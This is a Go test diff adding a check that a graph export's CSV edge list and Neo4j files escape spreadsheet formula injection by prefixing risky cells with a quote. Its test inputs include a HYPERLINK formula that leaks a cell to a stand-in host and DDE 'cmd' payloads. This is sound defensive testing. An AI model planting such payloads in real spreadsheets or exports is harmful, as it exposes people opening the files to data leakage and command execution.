@@ -139,3 +139,79 @@ func TestEdgeConfidence(t *testing.T) {
 		})
 	}
 }
+
+// TestCSVFormulaInjection: a sentence or a label that a spreadsheet would run as a
+// formula (=HYPERLINK, =cmd|, +, -, @, tab, carriage return) is written with a single
+// quote before it, in the edge list and in both files of the Neo4j export; other
+// cells are written as they are.
+func TestCSVFormulaInjection(t *testing.T) {
+	tests := []struct {
+		name, in, want string
+	}{
+		{"hyperlink", `=HYPERLINK("https://evil.example/?leak="&A1,"click")`, `'=HYPERLINK("https://evil.example/?leak="&A1,"click")`},
+		{"dde", `=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
+		{"plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+		{"minus", "-2+3", "'-2+3"},
+		{"at", "@SUM(1+1)", "'@SUM(1+1)"},
+		{"tab", "\t=1+1", "'\t=1+1"},
+		{"carriage return", "\r=1+1", "'\r=1+1"},
+		{"plain sentence", "Russia backs Serbia.", "Russia backs Serbia."},
+		{"formula later in the cell", "Russia = Serbia's backer", "Russia = Serbia's backer"},
+		{"empty", "", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			evil := graph.Node{ID: "evil", Name: tt.in, Kind: graph.KindGroup, Aliases: []string{tt.in}}
+			rels := []graph.Relation{{Statement: "s1", Subject: evil, Predicate: graph.Supports, Object: serbia,
+				Evidence: graph.Cited{Evidence: graph.Evidence{Document: "d", Sentence: tt.in, Modality: graph.Asserted, Confidence: 1}}}}
+			var b bytes.Buffer
+			if err := CSV(&b, rels); err != nil {
+				t.Fatal(err)
+			}
+			rows, err := csv.NewReader(&b).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			row := map[string]string{}
+			for i, h := range rows[0] {
+				row[h] = rows[1][i]
+			}
+			if row["sentence"] != tt.want || row["subject_label"] != tt.want {
+				t.Errorf("edge list: sentence %q, subject label %q; want %q", row["sentence"], row["subject_label"], tt.want)
+			}
+
+			b.Reset()
+			if err := Neo4j(&b, graph.GroupEdges(rels)); err != nil {
+				t.Fatal(err)
+			}
+			z, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
+			if err != nil {
+				t.Fatal(err)
+			}
+			cells := map[string]string{}
+			for _, f := range z.File {
+				r, err := f.Open()
+				if err != nil {
+					t.Fatal(err)
+				}
+				rows, err := csv.NewReader(r).ReadAll()
+				r.Close()
+				if err != nil {
+					t.Fatalf("%s: %v", f.Name, err)
+				}
+				for _, row := range rows[1:] {
+					for i, h := range rows[0] {
+						if h == "name" && row[0] == graph.NodeIRI(evil) || h == "sentence" {
+							cells[f.Name+" "+h] = row[i]
+						}
+					}
+				}
+			}
+			for _, k := range []string{"nodes.csv name", "relationships.csv sentence"} {
+				if cells[k] != tt.want {
+					t.Errorf("neo4j %s: %q, want %q", k, cells[k], tt.want)
+				}
+			}
+		})
+	}
+}
